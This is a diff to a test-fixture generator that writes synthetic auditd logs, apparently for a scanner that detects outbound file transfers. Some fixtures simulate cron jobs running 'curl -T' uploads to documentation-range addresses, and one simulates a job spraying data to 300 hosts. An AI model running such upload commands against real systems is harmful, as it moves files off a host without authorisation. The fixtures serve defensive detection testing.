@@ -104,6 +104,61 @@ def no_rules_at_all():
     return story.text()
 
 
+def no_addresses():
+    """Rules that leave SOCKADDR records out: who was sent to, nobody can tell."""
+    story = scp_job()
+    story.chatter()
+    return "".join(line + "\n" for line in story.lines if "type=SOCKADDR" not in line)
+
+
+def pieces_and_copies():
+    """One host's log, split by bytes, beside a copy of it with an editor's line ends."""
+    story = scp_job()
+    story.chatter()
+    text = story.text()
+    third = len(text) // 3
+    return {"logs/audit.log.aa": text[:third], "logs/audit.log.ab": text[third:2 * third],
+            "logs/audit.log.ac": text[2 * third:],
+            "logs/saved/audit (1).log": text.replace("\n", "\r\n")}
+
+
+def names_in_hex():
+    """auditd writes names with blanks or other letters in hex; an [allow] user names one of them."""
+    story = Story()
+    for uid, address in ((1204, "203.0.113.10"), (1205, "203.0.113.11")):
+        shell = story.cron_job(f"curl -T f https://{address}/", pid=uid, uid=uid, ses=uid)
+        shell.fork(uid + 5).exec("/usr/bin/curl", "curl", "-T", "f", f"https://{address}/").upload(
+            5, address, 443, 900, 120_000_000)
+    story.chatter()
+    names = {1204: "Backup Team", 1205: "j\u00f6rg"}
+    lines = []
+    for line in story.lines:
+        for uid, name in names.items():
+            if "type=SYSCALL" in line and f" uid={uid} " in line:
+                line += f"\x1dAUID={name.encode().hex().upper()} UID={name.encode().hex().upper()}"
+        lines.append(line + "\n")
+    return "".join(lines)
+
+
+def many_small_and_one_large():
+    """One job sends 4 KiB to each of 300 addresses; what the others sent stays as certain."""
+    story = scp_job(sizes=(41, 1560, 1208, 16, 60, 84, 120_000_000))
+    job = story.cron_job("/opt/spread", pid=800).fork(802).exec("/opt/spread", "/opt/spread")
+    for i in range(300):
+        job.upload(3, f"198.51.{100 + i // 250}.{i % 250 + 1}", 443, 4096)
+    story.chatter()
+    return story.text()
+
+
+def old_image():
+    """RHEL 6 keeps its name in etc/sysconfig/network."""
+    story = scp_job()
+    story.chatter()
+    return {"image/etc/sysconfig/network": "NETWORKING=yes\nHOSTNAME=rhel6-01.example.org\n",
+            "image/etc/passwd": "root:x:0:0:root:/root:/bin/bash\n",
+            "image/var/log/audit/audit.log": story.text()}
+
+
 def without(story, call):
     """The log of a host whose rules do not ask for that call."""
     stamps = {line.split("msg=")[1].split(":")[1] for line in story.lines
@@ -308,6 +363,9 @@ def one_job():
 LOGS = {"scan-argv-peers": argv_peers, "scan-one-liners": one_liners, "scan-titles": titles,
         "scan-table": two_hosts, "scan-jsonl": two_hosts, "coverage": two_hosts,
         "scan-csv": formulas, "scan-quiet": quiet, "scan-blind": execs_only,
+        "scan-no-addresses": no_addresses, "scan-copies": pieces_and_copies,
+        "scan-names": names_in_hex, "scan-certainty": many_small_and_one_large,
+        "scan-image": old_image,
         "coverage-jobs": no_rules_at_all, "coverage-jobs-jsonl": no_rules_at_all,
         "scan-no-bytes": many_jobs_without_bytes, "scan-no-bytes-all": many_jobs_without_bytes,
         "scan-blind-nothing-sent": nothing_sent, "scan-hostile": hostile,
@@ -321,4 +379,7 @@ LOGS = {"scan-argv-peers": argv_peers, "scan-one-liners": one_liners, "scan-titl
         "transfers": several_transfers, "explain": one_job, "rules-mistakes": one_job}
 
 for case in sys.argv[1:] or LOGS:
-    (HERE / case / "audit.log").write_text(LOGS[case]())
+    made = LOGS[case]()
+    for path, text in (made if isinstance(made, dict) else {"audit.log": made}).items():
+        (HERE / case / path).parent.mkdir(parents=True, exist_ok=True)
+        (HERE / case / path).write_text(text, newline="")
